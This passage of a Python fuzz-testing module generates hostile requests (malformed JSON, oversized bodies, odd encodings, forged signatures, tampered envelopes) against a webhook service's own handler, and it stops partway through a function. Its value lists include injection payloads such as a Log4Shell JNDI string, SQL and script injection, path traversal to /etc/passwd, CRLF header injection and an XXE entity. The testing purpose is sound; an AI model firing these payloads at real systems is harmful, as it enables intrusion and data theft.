"""Hostile requests, one for each number: what a stranger, a broken client, or one who knows a sender's secret sends.

    requests = Requests(seed, load(folder))
    request = requests.make(number, time.time())

A pure function of seed and number (and the time, which signatures hold). Each pair of a door and a kind of hostility
comes in turn, so `len(requests.turns)` numbers in a row hold every kind at every door where it makes sense. Most of
what comes through the HTTP doors is properly signed: else all of it would end at the same 401.
"""

import base64
import encodings.aliases
import json
import random
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

from nacl.signing import SigningKey

from create_conversation.senders.config import Sender
from create_conversation.submission import Submission
from operate.signing import FORM, Signed, sign
from operate.stack import StackError
from tests.chaos.canary_secrets import Canary
from tests.samples import ANYWHERE

EVENTS = Path(__file__).parents[2] / "events"
API = "api"
# Where a request asks for a location, mostly these; what the local HighLevel, or SQS, does to it.
LOCATIONS = ("ve9EPM428h8vShlRW1KT", "berlinK7Qx2mPz4tWc", "viennaB5nR8yLd3fHj")
SICK = "sickLocation00000001"  # 503
UNKEPT = "sickLocationUnkept02"  # 503, and SQS refuses what is kept for it
LIMITED = "limitedLocation00003"  # 429
FOREIGN = "foreignLocation00004"  # the token has no access
_OFTEN = (*LOCATIONS, *LOCATIONS, *LOCATIONS, SICK, LIMITED, FOREIGN, UNKEPT)

# Beside the presets: what users write into senders.toml, and where hostile values meet more of JMESPath.
OWN_SENDERS = (
    ANYWHERE
    + """
[highlevel-app]
app_id = "our-app"

[our-site]
scheme = "token"
where = ["body:secret", "query:key"]
email = "contact.mail || join('', contacts[*].mail)"
phone = "to_string(contact.mobile)"
first_name = "reverse(sort(contact.names))[0]"
location_id = "site"
locations = ["*"]
when = "length(kind) > `2` && max(scores) > min(scores) && sum(scores) > `0`"
id = "json:to_string(delivery)"

[one-location]
scheme = "token"
where = ["header:x-our-key", "basic"]
contact_id = "contacts[?active].id | [0]"
email = "map(&mail, contacts)[0]"
location_id = "site.location"
locations = ["ve9EPM428h8vShlRW1KT"]

[stamped]
scheme = "mac"
sig_header = "x-stamped"
sig_format = "kv"
sig_label = "v1"
encoding = "hex"
signed = "{ts}.{body}"
ts = "kv:t"
contact_id = "id"
email = "keys(people)[0]"
location_id = "location"
locations = ["*"]

[orders]
scheme = "event"
source = "shop"
email = "detail.order.customer"
phone = "detail.order.phone"
location_id = "detail.shop"
"""
)
# The body of a sender that has no sample in events/, or as well as it.
_GENERAL: dict[str, Any] = {
    "locationId": LOCATIONS[0],
    "contactId": "<contact>",
    "email": "<email>",
    "phone": "<phone>",
    "firstName": "Ann",
    "lastName": "O'Hara",
    "kind": "signup",
    "scores": [1, 2, 3],
    "site": LOCATIONS[0],
    "contact": {"mail": "<email>", "mobile": "<phone>", "names": ["Ann", "Bea"]},
    "contacts": [{"id": "<contact>", "active": True, "mail": "<email>"}],
    "people": {"<email>": 1},
    "id": "<contact>",
    "location": LOCATIONS[1],
    "data": {"locationId": LOCATIONS[2], "contactId": "<contact>", "email": "<email>"},
    "type": "ContactCreate",
    "appId": "our-app",
    "webhookId": "<delivery>",
    "delivery": "<delivery>",
}


@dataclass(frozen=True, slots=True)
class Request:
    """One invocation of the function. `payload`: the event as JSON. `unproved`: it must not be let in. `good`:
    (location, contact) that must have a conversation afterwards. `messages`: of a batch, the ids of its records, ""
    for one that has none."""

    number: int
    door: str
    kind: str
    payload: bytes = field(repr=False)
    unproved: bool = False
    good: tuple[tuple[str, str], ...] = ()
    messages: tuple[str, ...] | None = None


@dataclass(slots=True)
class _Http:
    """A request on its way to become API Gateway's event. Signed last, over the bytes that the function will see."""

    sender: Sender
    body: bytes
    content_type: str = "application/json"
    place: str = ""


class Requests:
    """All requests of a seed. `senders`: what `load()` gives for the folder that the function runs with."""

    def __init__(self, seed: int, senders: Mapping[str, Sender]) -> None:
        self.seed = seed
        self.canary = Canary.new(seed)
        self.senders = senders
        self._senders = {name: sender for name, sender in senders.items() if sender.scheme != "event"}
        rng = random.Random(f"{seed} keys")
        self._keys = {
            name: SigningKey(rng.randbytes(32)) for name, sender in self._senders.items() if sender.scheme == "pubkey"
        }
        self._secrets = {
            name: self.canary.sender_secret(name, whsec=sender.key_format == "whsec_base64")
            for name, sender in self._senders.items()
            if name not in self._keys
        }
        self._samples = {name: _sample(name) for name in self._senders}
        self.turns = self._turns()

    def sender_secrets(self) -> str:
        """The text of SenderSecrets: each sender's secret with a former one, or the public key of our own."""
        text: dict[str, Any] = {
            name: [secret, self.canary.sender_secret(f"{name}, former", whsec=secret.startswith("whsec_"))]
            for name, secret in self._secrets.items()
        }
        for name, key in self._keys.items():
            raw = bytes(key.verify_key)
            if self._senders[name].key_format == "whpk_base64":
                text[name] = "whpk_" + base64.b64encode(raw).decode()
            else:
                text[name] = base64.b64encode(bytes.fromhex("302a300506032b6570032100") + raw).decode()
        return json.dumps(text)

    def make(self, number: int, now: float) -> Request:
        """The request of that number, sent at `now` (Unix time)."""
        door, kind, maker = self.turns[number % len(self.turns)]
        return maker(number, door, kind, random.Random(f"{self.seed} {number}"), now)

    def _turns(self) -> list[tuple[str, str, Callable[..., Request]]]:
        turns: list[tuple[str, str, Callable[..., Request]]] = []
        for name in self._senders:
            door = "conversations" if name == API else f"webhooks/{name}"
            turns += [(door, kind, self._with_hostile_body) for kind in BODIES]
            turns += [(door, kind, self._with_hostile_envelope) for kind in ENVELOPES]
            turns += [(door, kind, self._with_hostile_proof) for kind in PROOFS]
        turns += 2 * [turn for turn in turns if turn[0] == "conversations"]
        # Fewer doors, the same weight.
        for _ in range(6):
            turns += [("events", kind, self._hostile_event) for kind in EVENTS_KINDS]
            turns += [("queue", kind, self._hostile_batch) for kind in BATCHES]
            turns += [("top", kind, self._hostile_top) for kind in TOPS]
        random.Random(f"{self.seed} turns").shuffle(turns)
        return turns

    # --- HTTP ---------------------------------------------------------------------------------------------------------

    def _with_hostile_body(self, number: int, door: str, kind: str, rng: random.Random, now: float) -> Request:
        http = self._good(number, door, rng)
        BODIES[kind](self, rng, number, http)
        unproved = rng.random() < 0.06
        event = self._event(http, rng, now, proved=not unproved)
        return Request(number, door, kind, _dumps(event), unproved)

    def _with_hostile_envelope(self, number: int, door: str, kind: str, rng: random.Random, now: float) -> Request:
        event = self._event(self._good(number, door, rng), rng, now)
        event = ENVELOPES[kind](rng, event)
        return Request(number, door, kind, _dumps(event))

    def _with_hostile_proof(self, number: int, door: str, kind: str, rng: random.Random, now: float) -> Request:
        http = self._good(number, door, rng)
        event = self._event(http, rng, now)
        unproved = PROOFS[kind](self, rng, http, event, now)
        return Request(number, door, kind, _dumps(event), unproved)

    def _good(self, number: int, door: str, rng: random.Random) -> _Http:
        """What the sender sends, for a contact of its own."""
        sender = self._senders[API if door == "conversations" else door.removeprefix("webhooks/")]
        body = self._fill(rng.choice(self._samples[sender.name]), number, rng)
        if sender.scheme == "token" and rng.random() < 0.2 and sender.name != API:
            flat = {name: value for name, value in body.items() if isinstance(value, str)}
            return _Http(sender, urlencode(flat).encode(), FORM, rng.choice(sender.where))
        return _Http(sender, json.dumps(body).encode(), place=rng.choice(sender.where or ("",)))

    def _fill(self, sample: Any, number: int, rng: random.Random) -> Any:
        text = json.dumps(sample)
        for mark, value in {
            "<contact>": rng.choice([*3 * [f"contact{number:08d}"], "contactThatComesAgain"]),
            "<email>": self.canary.email(number),
            "<phone>": self.canary.phone(number),
            "<location>": rng.choice(_OFTEN),
            "<delivery>": f"delivery-{number}",
        }.items():
            text = text.replace(mark, value)
        return json.loads(text)

    def _event(self, http: _Http, rng: random.Random, now: float, *, proved: bool = True) -> dict[str, Any]:
        """API Gateway's event of a request; its proof is made for the bytes that the function will see."""
        name = http.sender.name
        secret = self._secrets.get(name, "") if proved else "wrong-secret-of-nobody-0123456789"
        headers, query, body = self._signed(http, secret, now, proved)
        path = "/conversations" if name == API else f"/webhooks/{name}"
        route = "POST /conversations" if name == API else "POST /webhooks/{sender}"
        as_text = None
        if rng.random() < 0.5:
            try:
                as_text = body.decode()
            except UnicodeDecodeError:
                as_text = None
        return {
            "version": "2.0",
            "routeKey": route,
            "rawPath": path,
            "rawQueryString": query,
            "headers": {"content-type": http.content_type, "host": "a1b2c3d4e5.execute-api.amazonaws.com", **headers},
            "requestContext": {
                "http": {"method": "POST", "path": path, "protocol": "HTTP/1.1", "sourceIp": "203.0.113.7"},
                "requestId": f"UZ{rng.getrandbits(48):012x}=",
                "routeKey": route,
                "timeEpoch": int(1000 * now),
            },
            **({} if name == API else {"pathParameters": {"sender": name}}),
            "body": base64.b64encode(body).decode() if as_text is None else as_text,
            "isBase64Encoded": as_text is None,
        }

    def _signed(self, http: _Http, secret: str, now: float, proved: bool = True) -> Signed:
        if http.sender.scheme == "pubkey":
            return self._with_own_key(http, now, proved)
        if http.sender.key_format == "whsec_base64" and not proved:
            secret = "whsec_d3Jvbmctc2VjcmV0LW9mLW5vYm9keQ=="
        for place in (http.place, ""):
            try:
                return sign(http.sender, secret, http.body, http.content_type, now, place=place)
            except (StackError, ValueError, RecursionError):  # that body has no room for it
                continue
        if "query" in "".join(http.sender.where):
            place = next(place for place in http.sender.where if place.startswith("query"))
            return sign(http.sender, secret, http.body, http.content_type, now, place=place)
        return {}, "", http.body

    def _with_own_key(self, http: _Http, now: float, proved: bool) -> Signed:
        sender, headers, body = http.sender, dict[str, str](), http.body
        place, _, name = sender.ts.partition(":")
        mac = {"scheme": "mac", "key_format": "utf8"}
        stand_in = Sender(**{entry: getattr(sender, entry) for entry in Sender.__slots__} | mac)
        try:
            headers, _, body = sign(stand_in, "x" * 20, http.body, http.content_type, now)
        except (StackError, ValueError, RecursionError):
            return {}, "", http.body
        ts = headers.get(name, "") if place == "header" else ""
        parts = {
            "{body}": body,
            "{ts}": ts.encode(),
            "{id}": headers.get(sender.id.removeprefix("header:"), "").encode(),
        }
        message = b"".join(parts.get(part, part.encode()) for part in re.split(r"(\{(?:body|ts|id)\})", sender.signed))
        key = self._keys[sender.name] if proved else SigningKey(bytes(32))
        signature = base64.b64encode(key.sign(message).signature).decode()
        right = f"{sender.sig_label},{signature}" if sender.sig_format == "space-list" else sender.prefix + signature
        return headers | {sender.sig_header: right}, "", body

    # --- the other doors ----------------------------------------------------------------------------------------------

    def bus_event(self, number: int, rng: random.Random, location: str = "") -> dict[str, Any]:
        """A good event of the bus."""
        detail = {"locationId": location or rng.choice(_OFTEN[:-1]), "contactId": f"event{number:08d}"}
        if rng.random() < 0.3:
            detail = {
                "locationId": LOCATIONS[0],
                "email": self.canary.email(number),
                "phone": self.canary.phone(number),
            }
        return {
            "version": "0",
            "id": f"0f6e8f0a-6d0e-4c53-9d2e-{number:012d}",
            "detail-type": "ConversationRequested",
            "source": rng.choice(["my.crm", "shop"]),
            "account": "123456789012",
            "time": "2026-11-22T14:46:08Z",
            "region": "eu-central-1",
            "resources": [],
            "detail": detail,
        }

    def message(self, number: int, rng: random.Random, contact: str, location: str = LOCATIONS[0]) -> str:
        """A good message of the retry queue."""
        sender = rng.choice([API, "token"])
        body = json.dumps({"locationId": location, "contactId": contact}).encode()
        trigger = "http" if sender == API else "webhook"
        return Submission(trigger, sender, f"request{number}", 1.0, "application/json", body).to_message()

    def _hostile_event(self, number: int, door: str, kind: str, rng: random.Random, now: float) -> Request:
        event = self.bus_event(number, rng)
        return Request(number, door, kind, _dumps(EVENTS_KINDS[kind](self, rng, event)))

    def _hostile_batch(self, number: int, door: str, kind: str, rng: random.Random, now: float) -> Request:
        good = tuple((rng.choice(LOCATIONS), f"batch{number:08d}n{each}") for each in range(rng.randrange(1, 4)))
        records: list[Any] = [
            record(f"good-{number}-{each}", self.message(number, rng, contact, location), now)
            for each, (location, contact) in enumerate(good)
        ]
        fuzzed = BATCHES[kind](self, rng, number, now)
        if not isinstance(fuzzed, list):  # no list of records at all
            return Request(number, door, kind, _dumps({"Records": fuzzed}))
        records += fuzzed
        rng.shuffle(records)
        ids = [one.get("messageId") if isinstance(one, dict) else None for one in records]
        messages = tuple(one if isinstance(one, str) else "" for one in ids)
        return Request(number, door, kind, _dumps({"Records": records}), False, good, messages)

    def _hostile_top(self, number: int, door: str, kind: str, rng: random.Random, now: float) -> Request:
        return Request(number, door, kind, _dumps(TOPS[kind](rng)))


def record(message_id: str, body: Any, now: float, **attributes: Any) -> dict[str, Any]:
    """One of SQS's records as Lambda passes it on."""
    return {
        "messageId": message_id,
        "receiptHandle": f"handle-{message_id}",
        "body": body,
        "attributes": {
            "ApproximateReceiveCount": "1",
            "SentTimestamp": str(int(1000 * now) - 5000),
            "SenderId": "AROAEXAMPLE:highlevel-conversations",
            "ApproximateFirstReceiveTimestamp": str(int(1000 * now)),
            **attributes,
        },
        "messageAttributes": {},
        "eventSource": "aws:sqs",
        "eventSourceARN": "arn:aws:sqs:eu-central-1:123456789012:retry",
        "awsRegion": "eu-central-1",
    }


def _sample(name: str) -> list[Any]:
    """The bodies to begin with: the sample of events/, the ids and addresses in it made ours, and the general one."""
    path = EVENTS / ("http_conversation.json" if name == API else f"webhook_{name.replace('-', '_')}.json")
    samples = [_GENERAL]
    if path.exists():
        event = json.loads(path.read_text("utf-8"))
        raw = base64.b64decode(event["body"]).decode() if event.get("isBase64Encoded") else event["body"]
        try:
            payload = json.loads(raw)
        except ValueError:
            return samples
        ours = _marked(payload)
        if isinstance(ours, dict) and "appId" in ours:
            ours["appId"] = _GENERAL["appId"]
        samples = [ours, ours, _GENERAL]
    if name == API:
        samples = [{"locationId": "<location>", "contactId": "<contact>"}]
    return samples


def _marked(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _marked(each) for name, each in value.items()}
    if isinstance(value, list):
        return [_marked(each) for each in value]
    if not isinstance(value, str):
        return value
    if value == LOCATIONS[0]:
        return "<location>"
    if re.fullmatch(r"[A-Za-z0-9]{20}", value):
        return "<contact>"
    if "@" in value and " " not in value:
        return "<email>"
    return "<phone>" if re.fullmatch(r"\+[0-9]{8,15}", value) else value


def _dumps(event: Any) -> bytes:
    return event if isinstance(event, bytes) else json.dumps(event).encode()


# --- hostile values ---------------------------------------------------------------------------------------------------

_TEXTS = (
    "",
    " ",
    "\0",
    "a\0b",
    "\x1b[31mred",
    "\x7f",
    "x\r\nX-Injected: 1",
    "x\nSet-Cookie: a=b\n\n<html>",
    'x"}\n{"level": "INFO", "message": "submission", "outcome": "opened"}',
    "../../etc/passwd",
    "..%2f..%2fadmin",
    "id?x=1#y",
    "id/../../contacts/upsert",
    "\ud800",
    "id\udfffid",
    "\ufeffve9EPM428h8vShlRW1KT",
    "\uff56\uff45\uff19EPM428h8vShlRW1KT",
    "\u0661\u0662\u0663",
    "\u043ecQHyuzHvysMo5N5VsXc",
    "\u202eTK1WRlhSv8h824MPE9ev",
    "ve9EPM\u200b428h8vShlRW1KT",
    "\u2028\u2029\x85",
    "\ufffe\uffff",
    "\U0001f4a5" * 20,
    "e\u0301" * 30,
    "null",
    "undefined",
    "NaN",
    "${jndi:ldap://x.example/a}",
    "'; DROP TABLE contacts; --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "%00%0d%0a",
    "-" * 64,
    "_" * 65,
    "A" * 64,
    "A" * 65,
    "A" * 10_000,
    "1" * 70,
    # as e-mail addresses
    "a@b",
    "a@b@c.example",
    "a\0b@c.example",
    "a\x1b[2J@c.example",
    "\ud800@c.example",
    "a@\udfff.example",
    "a\u202eb@c.example",
    "a\u200b@c.example",
    "a\ufeff@c.example",
    "a\x7f@c.example",
    "a\ufffe@c.example",
    "a\r\nBcc: x@c.example",
    "\u00e4\u00f6@\u00fc.example",
    "A" * 64 + "@" + "b" * 189,
    "A" * 65 + "@" + "b" * 190,
    '"a b"@c.example',
    "@" * 5000,
    # as phone numbers
    "+\u0663\u0664\u0665 \u0661\u0662\u0663\u0664",
    "+\uff11\uff12\uff13\uff14\uff15\uff16",
    "++(1) 555 0100",
    "+1 555\r\n0100",
    "+1\u00a0555\u00a00100\u2013200",
    "+" + "5" * 31,
    "+" + "5" * 40,
    "+1 555 0100;ext=1",
    "(" * 5000,
)
_NUMBERS: tuple[Any, ...] = (
    *(0, -1, 1.5, 10**18, -(10**19), 10**19, 10**25, 10**400, 1e308, -0.0, 15551234567, -15551234567),
    *(True, False, None),
)


def value(rng: random.Random, depth: int = 0) -> Any:
    """A JSON value that is not what was promised."""
    match rng.randrange(10):
        case 0 | 1 | 2 | 3 | 4:
            return rng.choice(_TEXTS)
        case 5 | 6:
            return rng.choice(_NUMBERS)
        case 7:
            return "".join(chr(rng.choice([*range(0x250), 0x2028, 0xD800, 0xDFFF, 0x1F4A5])) for _ in range(30))
        case 8 if depth < 4:
            return [value(rng, depth + 1) for _ in range(rng.randrange(4))]
        case 9 if depth < 4:
            return {str(value(rng, 9))[:50]: value(rng, depth + 1) for _ in range(rng.randrange(3))}
    return [[]] if rng.random() < 0.5 else {}


def _paths(tree: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    members = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    return [at, *(path for name, each in members for path in _paths(each, (*at, name)))]


def _set(tree: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    copy = dict(tree) if isinstance(tree, dict) else list(tree)
    copy[path[0]] = _set(tree[path[0]], path[1:], new)
    return copy


def _without(tree: Any, path: tuple[Any, ...]) -> Any:
    if not path:
        return None
    copy = dict(tree) if isinstance(tree, dict) else list(tree)
    if len(path) == 1:
        del copy[path[0]]
    else:
        copy[path[0]] = _without(tree[path[0]], path[1:])
    return copy


def nested(rng: random.Random, inner: str = "1") -> str:
    """JSON, nested deeply: far beyond every parser's limit, and around the limits of Python's."""
    depth = rng.choice([100, 990, 3_000, 30_000, 100_000, rng.randrange(900, 1100), rng.randrange(4_000, 12_000)])
    if rng.random() < 0.5:
        return "[" * depth + inner + "]" * depth
    return '{"a":' * depth + inner + "}" * depth


# --- hostile bodies ---------------------------------------------------------------------------------------------------


def _tree(http: _Http) -> Any:
    if http.content_type == FORM:
        http.content_type, http.place = "application/json", ""
        http.body = json.dumps({"email": "a@b.example", "locationId": LOCATIONS[0]}).encode()
    return json.loads(http.body)


def _json(http: _Http, tree: Any) -> None:
    http.body = json.dumps(tree).encode()


def _wrong_values(_requests: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    tree = _tree(http)
    for _ in range(rng.choice([1, 1, 2, 5])):
        leaves = [path for path in _paths(tree) if path]
        if leaves and isinstance(tree, dict):
            tree = _set(tree, rng.choice(leaves), value(rng))
    _json(http, tree)


def _wrong_contact(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    """Only the leaves that name location, contact, e-mail or phone."""
    tree = _tree(http)
    for path in _paths(tree):
        if path and re.search(r"(?i)id$|mail|phone|location|contact|name|site|mobile", str(path[-1])):
            wrong = value(rng)
            if rng.random() < 0.6 and not isinstance(wrong, dict | list):
                try:
                    tree = _set(tree, path, wrong)
                except (KeyError, IndexError, TypeError):  # its parent has gone
                    continue
    _json(http, tree)


def _missing(_requests: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    tree = _tree(http)
    for _ in range(rng.choice([1, 2, 4])):
        leaves = [path for path in _paths(tree) if path]
        tree = _without(tree, rng.choice(leaves)) if leaves else tree
    _json(http, tree)


def _duplicated_keys(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    tree = _tree(http)
    pairs = [f"{json.dumps(name)}:{json.dumps(each)}" for name, each in tree.items()]
    pairs += [f"{json.dumps(name)}:{json.dumps(value(rng))}" for name in tree] * rng.choice([1, 50])
    rng.shuffle(pairs)
    http.body = ("{" + ",".join(pairs) + "}").encode()


def _odd_keys(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    tree = _tree(http)
    _json(http, tree | {str(rng.choice(_TEXTS)): value(rng) for _ in range(rng.choice([1, 10, 1000]))})


def _deep(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    text = json.dumps(_tree(http))
    deep = nested(rng)
    http.body = rng.choice([deep, text[:-1] + f', "deep": {deep}}}', f'{{"deep": {deep}, ' + text[1:]]).encode()


def _deep_array(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    http.body = f"[{nested(rng)}, {json.dumps(_tree(http))}]".encode()


def _number_texts(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    big = rng.choice(["9" * 4300, "9" * 5000, "-" + "9" * 20_000, "1e999", "1e-999", "NaN", "-Infinity", "1E+400"])
    text = json.dumps(_tree(http))
    http.body = re.sub(r'"(contactId|email|phone|id|locationId)": "[^"]*"', rf'"\1": {big}', text, count=2).encode()


def _growing_numbers(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    """Short as JSON, long as Python writes them: 1e15, and characters that are escaped."""
    filler = ",".join([rng.choice(["1e15", '"\\ud800"', '"\\u0000"', "1E5"])] * rng.choice([100, 10_000, 40_000]))
    text = json.dumps(_tree(http))
    whole = text[:-1] + f', "more": [{filler}]}}'
    http.body = (f"[{whole}]" if rng.random() < 0.5 else whole).encode()


def _not_json(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    text = json.dumps(_tree(http))
    http.body = rng.choice(
        [
            b"",
            b" \r\n\t",
            text[: rng.randrange(len(text))].encode(),
            text.replace('"', "'").encode(),
            (text + text).encode(),
            (text + "\0").encode(),
            b"// comment\n" + text.encode(),
            text.replace("}", ",}").encode(),
            rng.randbytes(rng.choice([1, 30, 2000])),
            b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
            b"PK\x03\x04" + rng.randbytes(100),
        ]
    )


def _other_json(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    _json(http, rng.choice([None, True, 0, 1.5, "text", "", [], {}, [[]], [None], ["a", 1], float("nan"), "\ud800"]))


def _array(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    count = rng.choice([2, 3, 5, 12])
    _json(http, [rng.choice([_tree(http), value(rng), [value(rng)], {}]) for _ in range(count)])


def _long_array(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    tree = _tree(http)
    count = 10_000 if rng.random() < 0.004 else 40
    junk: Any = rng.choice([{}, [], None, 1, "x", {"email": "a@b"}, {"email": f"x{rng.random()}@y.example"}])
    _json(http, [tree if rng.random() < 0.01 else junk for _ in range(count)])


def _huge(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    limit = 256 * 1024
    size = rng.choice([limit - 1, limit, limit + 1, limit - 100, 600_000, 3_000_000])
    text = json.dumps(_tree(http)).encode()
    shape = 2 if rng.random() < 0.004 else rng.choice([0, 1, 3])
    if shape == 0:
        http.body = text + b" " * (size - len(text))
    elif shape == 1:
        http.body = text[:-1] + b', "more": "' + "\u00e4".encode() * ((size - len(text) - 12) // 2) + b'"}'
    elif shape == 2:
        http.body = b"[" + b",".join([text] * max(1, size // (len(text) + 60))) + b"]"
        http.body = http.body[:size] if size > limit else b"[" + text + b", 1" * ((size - len(text) - 2) // 3) + b"]"
    else:
        http.body = b'{"contactId": "' + b"A" * (size - 17) + b'"}'


def _encoded(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    text = json.dumps(_tree(http) | {"note": "\u00e4\u20ac\U0001f4a5"}, ensure_ascii=False)
    codec = rng.choice(["utf-8-sig", "utf-16", "utf-16-le", "utf-32", "utf-32-be", "utf-7", "latin-1", "cp037"])
    http.body = text.encode(codec, "replace")
    declared = rng.choice([codec, codec, "utf-8", "utf-16", ""])
    http.content_type = f"application/json; charset={declared}" if declared else "application/json"


def _any_codec(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    name = rng.choice(sorted({*encodings.aliases.aliases.values(), *encodings.aliases.aliases, "idna", "punycode"}))
    form = rng.random() < 0.3
    text = urlencode({"email": "a@b.example", "note": "\u00e4"}) if form else json.dumps(_tree(http))
    try:
        http.body = text.encode(name, "replace") if rng.random() < 0.7 else rng.randbytes(200)
    except Exception:  # noqa: BLE001 a codec that makes no bytes of text, and whatever it raises
        http.body = text.encode()
    http.content_type = f"{FORM if form else 'application/json'}; charset={name}"


def _long_in_any_codec(requests: Requests, rng: random.Random, number: int, http: _Http) -> None:
    """200 KB in a codec, which may take more than linear time."""
    _any_codec(requests, rng, number, http)
    http.body = rng.choice([http.body * (200_000 // max(1, len(http.body))), b"a-" * 100_000, rng.randbytes(200_000)])


def _content_type(_: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    http.content_type = rng.choice(
        [
            "",
            "text/plain",
            "multipart/form-data; boundary=x",
            "application/json; charset=",
            "application/json; charset=utf-8; charset=utf-16",
            "application/json;charset=hex",
            "application/json; charset=zlib_codec",
            "application/json; charset=\u00e4",
            "application/json; charset=" + "a" * 20_000,
            "application/json; charset" + " " * 20_000 + "=utf-8",
            "application/json" + ";" * 20_000,
            "application/" + "x" * 20_000 + "+json",
            "application/json\r\nx-injected: 1",
            "APPLICATION/JSON",
            "application/problem+json",
            FORM + ", application/json",
            FORM + "x",
            "*/*",
            "\0",
            "\ud800",
            "application/json; charset=../../etc/passwd",
            "application/json; charset=undefined",
            "application/json; charset=rot13",
            "application/json; charset=unicode_escape",
        ]
    )


def _form(requests: Requests, rng: random.Random, number: int, http: _Http) -> None:
    """Forms, whatever the sender is used to; the secret rides in the body where it may."""
    mail = requests.canary.email(number)
    http.content_type = FORM + rng.choice(["", "", "; charset=utf-8", "; charset=utf-16", "; charset=cp037", "; x=y"])
    http.place = next((place for place in http.sender.where if place.startswith("body:")), "")
    good = urlencode({"email": mail, "locationId": LOCATIONS[0]})
    http.body = rng.choice(
        [
            good,
            good + "&" + "&".join(f"f{each}=1" for each in range(rng.choice([900, 1500, 20_000]))),
            good + "&email=" * 500,
            good + "&=&&&==&%&%zz=%zz&%ff=%fe",
            good + "&" + quote("\0\r\n") + "=" + quote("\r\n"),
            good.replace("email", "%65mail"),
            "&" * 100_000,
            "=" * 100_000,
            "%" * 100_000,
            "email=" + "%41" * 60_000,
            good + "&note=\u00e4",
            good + ";email=x",
        ]
    ).encode()
    if rng.random() < 0.2:
        http.body = http.body.decode().encode(rng.choice(["utf-16", "utf-32", "cp037"]), "replace")


def _secret_in_body(requests: Requests, rng: random.Random, _number: int, http: _Http) -> None:
    """Somebody puts the token everywhere."""
    tree = _tree(http)
    place = next((place for place in http.sender.where if place.startswith("body:")), "")
    http.place = place
    if not place:
        return
    secret = requests._secrets[http.sender.name]
    name = place.removeprefix("body:")
    pairs = [f"{json.dumps(key)}:{json.dumps(each)}" for key, each in tree.items()]
    pairs += [f'"{name}":"{rng.choice([secret, "x"])}"', f'"{name}":"{secret}"']
    text = "{" + ",".join(pairs) + "}"
    if rng.random() < 0.4:  # escaped
        text = text.replace(secret, "".join(f"\\u{ord(each):04x}" for each in secret))
    http.body = text.encode(rng.choice(["utf-8", "utf-8", "utf-8-sig", "utf-16", "utf-32-le"]))
    http.content_type = rng.choice(
        ["application/json", "application/json; charset=utf-16", "application/json; charset=latin-1"]
    )


BODIES: dict[str, Callable[[Requests, random.Random, int, _Http], None]] = {
    "good": lambda *_: None,
    "wrong types and texts": _wrong_values,
    "wrong ids, addresses and numbers": _wrong_contact,
    "wrong ids, addresses and numbers again": _wrong_contact,
    "missing members": _missing,
    "duplicated keys": _duplicated_keys,
    "odd keys": _odd_keys,
    "nested deeply": _deep,
    "nested deeply in an array": _deep_array,
    "numbers out of range": _number_texts,
    "numbers that grow": _growing_numbers,
    "no JSON": _not_json,
    "other JSON": _other_json,
    "array of junk": _array,
    "long array": _long_array,
    "huge": _huge,
    "other encodings": _encoded,
    "any codec": _any_codec,
    "long in any codec": _long_in_any_codec,
    "content types": _content_type,
    "forms": _form,
    "the secret in the body": _secret_in_body,
}


# --- hostile envelopes ------------------------------------------------------------------------------------------------

_ODD: tuple[Any, ...] = (
    *(None, True, 0, -1, 1.5, 10**18, "", "x\r\nX-Injected: 1", "\ud800", [], ["a"], {}),
    *({"a": 1}, "A" * 10_000, [[[]]], "\0", "1795358768123", "\u202e", 10**400),
)


def _odd_member(*path: str) -> Callable[[random.Random, dict[str, Any]], Any]:
    """That piece of the event is missing or something else."""

    def change(rng: random.Random, event: dict[str, Any]) -> Any:
        inside: Any = event
        for name in path[:-1]:
            inside = inside.get(name)
            if not isinstance(inside, dict):
                return event
        if rng.random() < 0.2:
            inside.pop(path[-1], None)
        else:
            inside[path[-1]] = rng.choice(_ODD)
        return event

    return change


def _odd_headers(rng: random.Random, event: dict[str, Any]) -> Any:
    headers = event["headers"]
    match rng.randrange(5):
        case 0:
            event["headers"] = {name.upper(): text for name, text in headers.items()}
        case 1:
            event["headers"] = headers | {name.title(): rng.choice(_ODD) for name in headers}
        case 2:
            event["headers"] = {
                name: rng.choice([text, f"{text},{text}", rng.choice(_ODD)]) for name, text in headers.items()
            }
        case 3:
            headers |= {f"x-{each}": "y" for each in range(5_000)}
        case _:
            headers |= {
                str(rng.choice(_TEXTS)): rng.choice(_ODD),
                "content-encoding": rng.choice(["gzip", "identity", "br, gzip", ""]),
            }
    return event


def _odd_base64(rng: random.Random, event: dict[str, Any]) -> Any:
    event["isBase64Encoded"] = rng.choice([True, True, True, "true", 1, None, [], "false"])
    body = event["body"] if isinstance(event["body"], str) else ""
    event["body"] = rng.choice(
        [
            body,
            body + "=",
            body[:-1],
            "\u00e4\u00f6",
            "====",
            "A",
            body.replace("A", "\n"),
            "-_" * 40,
            "\ud800",
            body + "!",
            None,
            5,
        ]
    )
    return event


def _version_1(rng: random.Random, event: dict[str, Any]) -> Any:
    return {
        "version": "1.0",
        "resource": event["rawPath"],
        "path": event["rawPath"],
        "httpMethod": "POST",
        "headers": event["headers"],
        "multiValueHeaders": {name: [text] for name, text in event["headers"].items()},
        "queryStringParameters": None,
